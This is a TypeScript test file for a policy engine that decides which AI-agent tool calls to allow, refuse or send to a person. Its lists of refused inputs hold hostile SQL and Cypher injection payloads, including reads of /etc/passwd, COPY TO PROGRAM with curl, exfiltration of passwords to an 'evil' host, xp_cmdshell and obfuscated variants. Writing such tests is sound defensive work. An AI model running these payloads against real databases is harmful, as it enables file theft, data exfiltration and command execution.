import { readdirSync } from 'node:fs';
import { describe, expect, test } from 'vitest';
import type { Category, Facet } from '#classifier/taxonomy.ts';
import type { Json, JsonObject } from '#crawler/types.ts';
import { evaluate, NO_COUNTERS } from '../evaluate.ts';
import { re2Patterns } from '../re2.ts';
import { recommendForTool } from '../recommend.ts';
import { parsePolicy } from '../schema/schema.ts';
import { findSlots } from '../slots.ts';
import type { JudgedParameter, JudgedTool } from '../types.ts';
import { ARGUMENT_RULES, argumentRulesOf } from './index.ts';

const patterns = re2Patterns();
type Change = Partial<JudgedParameter>;

function parameter(path: string | null, role: JudgedParameter['roles'][number], change: Change = {}): JudgedParameter {
  return { path, roles: [role], isRequired: true, type: 'string', choices: [], ...change };
}

function toolWith(category: Category, facets: readonly Facet[], ...parameters: JudgedParameter[]): JudgedTool {
  return { name: 'do_it', category, risk: 'medium', facets, parameters };
}

function decide(tool: JudgedTool, args: JsonObject) {
  return evaluate(recommendForTool(tool), { tool: 'do_it', args }, { counters: NO_COUNTERS, now: 0, patterns });
}

function passes(tool: JudgedTool, args: JsonObject): boolean {
  return decide(tool, args).outcome === 'allow';
}

function asks(tool: JudgedTool, args: JsonObject): boolean {
  const decision = decide(tool, args);
  return decision.outcome === 'deny' && decision.asksAPerson;
}

test('every rule has its file, its own id and its texts', () => {
  const files = readdirSync(import.meta.dirname).map((name) => name.replace(/\.ts$/, ''));
  const ids = ARGUMENT_RULES.map(({ id }) => id);
  const others = [
    'argument-rule',
    'index',
    'index.test',
    'join-rules',
    'slot',
    'sql-words',
    'starts-otherwise',
    'starts-otherwise.test',
  ];
  expect(files.toSorted()).toEqual([...ids, ...others].toSorted());
  for (const { title, appliesTo, rationale } of ARGUMENT_RULES)
    for (const text of [title, appliesTo, rationale]) expect(text.length).toBeGreaterThan(8);
});

test('a tool whose schema gives nothing to hold gets no rule', () => {
  expect(argumentRulesOf(toolWith('write', ['free-url', 'bulk']))).toEqual({});
  const parameters = [parameter('args.url', 'free-url'), parameter('args.id', 'id'), parameter('args.sql', 'query')];
  expect(argumentRulesOf(toolWith('write', [], ...parameters))).toEqual({});
});

describe('SQL', () => {
  const tool = toolWith('execute', ['code'], parameter('args.sql', 'query'));
  const runs = (sql: Json): boolean => passes(tool, { sql });

  test.each([
    'SELECT 1',
    " select * from notes where title = 'read me';\n",
    '(SELECT a FROM b) UNION (SELECT c FROM d)',
    'WITH x AS (SELECT 1) SELECT * FROM x',
    'EXPLAIN SELECT updated_at, deleted, created_by FROM notes',
    'SHOW TABLES',
    "SELECT replace(title, 'a', 'b'), count(*) FROM notes GROUP BY 1",
    "SELECT * FROM notes WHERE title LIKE '%日本%' AND data->>'a' = 'b'",
    "SELECT url_decode(url), path FROM pages WHERE url LIKE 'https://%' AND path IN ('/a', '/b.csv')",
    "SELECT a.x FROM a, b WHERE a.path = '/x' ORDER BY a.file, b.remote",
    "SELECT pg_size_pretty(pg_total_relation_size('notes')), pg_get_viewdef('v'::regclass), sqlite_version()",
    'SELECT transform(ids, x -> x + 1), set_id, is_deleted, enabled FROM `project.data.notes`',
    "SELECT trim(both '/' from path), concat(a, '/', b) FROM notes JOIN files USING (id)",
  ])('%s reads', (sql) => {
    expect(runs(sql)).toBe(true);
  });

  test.each([
    'DELETE FROM notes',
    'SELECT 1; DELETE FROM notes',
    'SELECT 1;;',
    'WITH gone AS (DELETE FROM notes RETURNING *) SELECT * FROM gone',
    'WITH new AS (\nINSERT\nINTO notes VALUES (1) RETURNING 1) SELECT 1',
    'SELECT * INTO copy_of_notes FROM notes',
    'SELECT * FROM notes FOR UPDATE',
    'SELECT * FROM notes FOR KEY SHARE',
    'EXPLAIN ANALYZE DELETE FROM notes',
    "SELECT pg_read_file('/etc/passwd')",
    'SELECT "pg_read_file"(\'/etc/passwd\')',
    "SELECT pg_catalog . pg_ls_dir ('/')",
    "SELECT lo_import('/etc/passwd')",
    "SELECT query_to_xml('dele'||'te from notes', true, true, '')",
    "SELECT * FROM dblink('host=evil', 'x') AS t(a int)",
    "COPY notes TO PROGRAM 'curl evil'",
    'SELECT U&"pg\\005fread_file"(\'/etc/passwd\')',
    "SELECT * FROM notes INTO OUTFILE '/tmp/x'",
    "SELECT LOAD_FILE('/etc/passwd')",
    'SELECT 1 /*!50000INTO*/ OUTFILE',
    'SELECT/**/1',
    'SELECT 1 -- only',
    "SELECT 1 EXEC xp_cmdshell 'dir'",
    'SELECT 1 SHUTDOWN',
    "SELECT * FROM OPENROWSET('a','b','c')",
    "SELECT * FROM read_text('/etc/passwd')",
    "SELECT * FROM url('http://evil', CSV)",
    "ATTACH 'x.db' AS x",
    'PRAGMA writable_schema = 1',
    'CALL wipe()',
    "SELECT utl_http.request('http://evil/' || password) FROM users",
    "select dbms_xmlgen.getxml('select 1') from dual",
    "SELECT * FROM '/etc/passwd'",
    "SELECT * FROM notes, 'https://evil/x.csv'",
    'SELECT * FROM "/etc/passwd"',
    'SELECT * FROM $$/etc/passwd$$',
    "SELECT * FROM notes JOIN 'x.parquet' ON true",
    'SELECT * FROM csv.`/etc/passwd`',
    "select * from query('SELECT * FROM read_' || 'text(1)')",
    "SELECT * FROM json_execute_serialized_sql('x')",
    "SELECT * FROM fsdir('/')",
    "SELECT * FROM sqlite('x.db', 'notes')",
    "SELECT http('x')",
    'SELECT pg_stat_reset()',
    'SELECT pg_logfile_rotate()',
    "SELECT java_method('java.lang.System', 'exit', 0)",
    "SELECT TRANSFORM(a) USING 'python evil.py' FROM notes",
    "SELECT OPENROWSET\u00a0(BULK 'x')",
    "SELECT * FROM sys.fn_get_audit_file('\\\\evil\\x', 1, 1)",
    'SELECT 1 DISABLE TRIGGER ALL ON DATABASE',
    'SELECT 1 SEND ON CONVERSATION @h',
    'SELECT 1 \uff24\uff25\uff2c\uff25\uff34\uff25',
    'SELECT 1\u0000',
    'selectivity',
    '',
    '\u200bSELECT 1',
  ])('%j is refused', (sql) => {
    expect(runs(sql)).toBe(false);
  });

  test.each<[Json]>([
    [null],
    [5],
    [true],
    [[]],
    [['SELECT 1', 'DROP TABLE notes']],
    [[['DROP TABLE notes']]],
    [{ sql: 'DROP' }],
  ])('%j is refused', (sql) => {
    expect(runs(sql)).toBe(false);
  });
  test('left out is refused', () => expect(passes(tool, {})).toBe(false));

  test('may be left out where the schema says so, and is held where it is given', () => {
    const modes = toolWith('write', ['code'], parameter('args.sql', 'query', { isRequired: false }));
    const given = ['SELECT 1;', ' DROP TABLE notes', 'SELECT 1; SELECT 2', 'SELECT 1 INTO x', 'DO 1', '', ['SET x']];
    expect(passes(modes, {})).toBe(true);
    expect(given.map((sql) => passes(modes, { sql }))).toEqual([true, false, false, false, false, false, false]);
    const anything = toolWith('write', ['code'], parameter('args.sql', 'query', { isRequired: false, type: null }));
    expect([passes(anything, {}), passes(anything, { sql: { text: 'DROP TABLE notes' } })]).toEqual([false, false]);
  });

  test('in a list of records asks a person, who sees them', () => {
    const list = parameter('args.statements', 'query', { type: 'array', isOfRecords: true, language: 'sql' });
    const batch = toolWith('execute', ['code'], list, parameter('args.statements.sql', 'query'));
    expect(asks(batch, { statements: [{ sql: 'SELECT 1' }] })).toBe(true);
  });
});

describe('other languages', () => {
  test.each<[string, string, boolean]>([
    ['args.graphql', 'query { notes { title } }', true],
    ['args.graphql', '{ notes { title } }', true],
    ['args.graphql', 'mutation { wipe }', false],
    ['args.graphql', 'query A { notes } mutation B { wipe }', false],
    ['args.cypher', 'MATCH (n) RETURN n', true],
    ['args.cypher', 'MATCH (n) DETACH DELETE n', false],
    ['args.cypher', 'MATCH (n) INSERT (m:Note)', false],
    ['args.cypher', "LOAD CSV FROM 'http://evil' AS x RETURN x", false],
    ['args.cypher', 'CALL apoc.cypher.doIt("x", {})', false],
    ['args.sparql', 'SELECT * WHERE { ?s ?p ?o }', true],
    ['args.sparql', 'PREFIX a: <b> \\u0049NSERT DATA { a a a }', false],
    ['args.aql', 'FOR n IN notes RETURN n', true],
    ['args.aql', 'FOR n IN notes REMOVE n IN notes', false],
    ['args.soql', 'SELECT Id FROM Account', true],
    ['args.kql', 'Events | take 5', false],
  ])('%s: %s', (path, text, isLet) => {
    const name = path.slice('args.'.length);
    expect(passes(toolWith('execute', ['code'], parameter(path, 'query')), { [name]: text })).toBe(isLet);
  });

  test('stages of MongoDB that write are refused', () => {
    const stages = parameter('args.pipeline', 'query', { type: 'array', isOfRecords: true, isRequired: false });
    const tool = toolWith('execute', ['code'], stages);
    expect(passes(tool, { pipeline: [{ $match: { a: 1 } }] })).toBe(true);
    expect(passes(tool, { pipeline: [{ $match: {} }, { $out: 'x' }] })).toBe(false);
    expect(passes(tool, { pipeline: [{ $merge: 'x' }] })).toBe(false);
    expect(passes(tool, { pipeline: '[{"$out":"x"}]' })).toBe(false);
    expect(passes(tool, { pipeline: [{ $match: {} }, '{"$out":"x"}'] })).toBe(false);
  });
});

describe('a language that the description names', () => {
  const named = (language: string) => toolWith('read', ['code'], parameter('args.query', 'query', { language }));
  test('decides before the name', () => {
    expect([passes(named('sql'), { query: 'SELECT 1' }), passes(named('sql'), { query: 'DROP TABLE notes' })]).toEqual([
      true,
      false,
    ]);
    expect(passes(named('cypher'), { query: 'MATCH (n) RETURN n' })).toBe(true);
    expect(passes(named('graphql'), { query: 'mutation { wipe }' })).toBe(false);
    const cypher = toolWith('execute', ['code'], parameter('args.statement', 'query', { language: 'cypher' }));
    expect([passes(cypher, { statement: 'MATCH (n) RETURN n' }), passes(cypher, { statement: 'SHOW x' })]).toEqual([
      true,
      false,
    ]);
  });
});

describe('slots', () => {
  test('a path on the server’s disk gets one, also of a tool that is not marked for paths', () => {
    const tool = toolWith('read', [], parameter('args.outputPath', 'local-path', { isRequired: false }));
    expect(findSlots(recommendForTool(tool))).toMatchObject([{ path: 'args.outputPath', kind: 'path' }]);
    expect([passes(tool, {}), passes(tool, { outputPath: '/root/.bashrc' })]).toEqual([true, false]);
  });

  test.each<[Facet, JudgedParameter['roles'][number], string]>([
    ['code', 'code', 'code'],
    ['code', 'command', 'command'],
    ['free-url', 'free-url', 'url'],
    ['free-path', 'free-path', 'path'],
    ['external-sink', 'recipients', 'recipient'],
  ])('a tool with facet %s gets one for its %s', (facet, role, kind) => {
    const slots = (change: Change) =>
      findSlots(recommendForTool(toolWith('write', [facet], parameter('args.to', role, change))));
    expect(slots({})).toMatchObject([{ path: 'args.to', kind, isOptional: false, isFilled: false }]);
    expect(slots({ isRequired: false })).toMatchObject([{ path: 'args.to', kind, isOptional: true, isFilled: false }]);
  });

  test('of an argument that may be left out refuses only calls that give it', () => {
    for (const [facet, role] of [
      ['free-url', 'free-url'],
      ['code', 'code'],
    ] as const) {
      const tool = toolWith('execute', [facet], parameter('args.given', role, { isRequired: false }));
      expect([passes(tool, {}), passes(tool, { given: 'x' }), passes(tool, { given: [['x']] })]).toEqual([
        true,
        false,
        false,
      ]);
    }
  });

  test('a reading tool of low risk keeps what it takes; one that takes any address does not', () => {
    const low = { ...toolWith('read', ['code'], parameter('args.code', 'code')), risk: 'low' } as const;
    expect(recommendForTool(low).tools).toEqual({ do_it: {} });
    expect(passes(toolWith('read', ['free-url'], parameter('args.url', 'free-url')), { url: 'https://a.test' })).toBe(
      false,
    );
  });

  test('an address inside a record is a detail, unless there is no other', () => {
    const inner = parameter('args.shop.url', 'free-url');
    const outer = parameter('args.url', 'free-url');
    expect(findSlots(recommendForTool(toolWith('read', ['free-url'], inner, outer)))).toMatchObject([
      { path: 'args.url' },
    ]);
    expect(findSlots(recommendForTool(toolWith('read', ['free-url'], inner)))).toMatchObject([
      { path: 'args.shop.url' },
    ]);
  });

  test('null leaves an argument out, also one that is compared word for word', () => {
    const tool = toolWith('write', ['external-sink'], parameter('args.cc', 'recipients', { isRequired: false }));
    expect([passes(tool, { cc: null }), passes(tool, { cc: 'a@b.test' })]).toEqual([true, false]);
  });

  test('a tool that only reads reaches nobody', () => {
    expect(argumentRulesOf(toolWith('read', ['external-sink'], parameter('args.to', 'recipients')))).toEqual({});
  });

  test('numbers of issues name nobody', () => {
    const tool = toolWith(
      'write',
      ['external-sink'],
      parameter('args.issue_number', 'recipients'),
      parameter('args.id', 'recipients', { type: 'number' }),
    );
    expect(argumentRulesOf(tool)).toEqual({});
  });
});

describe('where no rule can hold', () => {
  test('a name that conditions cannot write, a person is asked about every call', () => {
    expect(asks(toolWith('write', ['free-url'], parameter(null, 'free-url')), {})).toBe(true);
    expect(asks(toolWith('execute', ['code'], parameter(null, 'query')), {})).toBe(true);
  });
  test('records, a person is asked about calls that give them', () => {
    const records = parameter('args.to', 'recipients', { type: 'array', isOfRecords: true, isRequired: false });
    const tool = toolWith('write', ['external-sink'], records, parameter('args.to.email', 'recipients'));
    expect([asks(tool, { to: [{ email: 'a@b.test' }] }), passes(tool, {})]).toEqual([true, true]);
    expect(findSlots(recommendForTool(tool))).toEqual([]);
  });
});

describe('amounts', () => {
  test('of a payment are capped before a person is asked', () => {
    const tool = toolWith('financial', ['money'], parameter('args.amount', 'amount', { type: 'number' }));
    expect([asks(tool, { amount: 100 }), asks(tool, { amount: 101 }), asks(tool, { amount: '1' })]).toEqual([
      true,
      false,
      false,
    ]);
  });
  test('that may be left out are held as numbers', () => {
    const tool = {
      ...toolWith('write', ['money'], parameter('args.amount', 'amount', { type: 'number', isRequired: false })),
      risk: 'high',
    } as const;
    const given = [100, 101, -1, '101', ['5']].map((amount) => passes(tool, { amount }));
    expect([passes(tool, {}), ...given]).toEqual([true, true, false, false, false, false]);
  });
  test('no rule on the price of what is only described, or on a currency', () => {
    expect(
      argumentRulesOf(toolWith('write', ['money'], parameter('args.price', 'amount', { type: 'number' }))),
    ).toEqual({});
    expect(argumentRulesOf(toolWith('financial', ['money'], parameter('args.currency', 'amount')))).toEqual({});
  });
});

describe('bulk', () => {
  const tool = toolWith('write', ['bulk'], parameter('args.ids', 'bulk', { type: 'array' }));
  test('lets 20 at once through and not 21', () => {
    const ids = Array.from({ length: 21 }, (_, id) => id);
    expect([passes(tool, { ids: ids.slice(1) }), passes(tool, { ids })]).toEqual([true, false]);
  });
  test('lowers the limit', () => {
    expect(recommendForTool(tool).tools?.do_it?.limits?.[0]?.max).toBe(10);
    expect(recommendForTool(toolWith('execute', ['bulk'])).tools?.do_it?.limits?.[0]?.max).toBe(3);
  });
});

test('a trial passes, the real thing asks a person', () => {
  const tool = toolWith('write', [], parameter('args.dry_run', 'dry-run', { type: 'boolean', isRequired: false }));
  expect(passes(tool, { dry_run: true })).toBe(true);
  const real: JsonObject[] = [{}, { dry_run: false }, { dry_run: 'true' }, { dry_run: [] }];
  for (const args of real) expect(asks(tool, args)).toBe(true);
});

test('all rules make a valid policy, with hostile names too', () => {
  const roles = [
    'free-url',
    'free-path',
    'code',
    'command',
    'query',
    'amount',
    'recipients',
    'bulk',
    'dry-run',
  ] as const;
  const facets = ['free-url', 'free-path', 'code', 'external-sink', 'money', 'bulk'] as const;
  const names = ['a', '__proto__', 'x\ny', '\u202ename', 'q'.repeat(500), '"', '日本'];
  for (const name of names) {
    const parameters = roles.map((role) =>
      parameter(`args.${name}`, role, { type: role === 'amount' ? 'number' : 'string' }),
    );
    const policy = recommendForTool({ ...toolWith('write', facets, ...parameters), risk: 'high' });
    expect(parsePolicy(JSON.parse(JSON.stringify(policy)))).toMatchObject({ ok: true });
    expect(findSlots(policy).length).toBeGreaterThanOrEqual(7);
  }
});
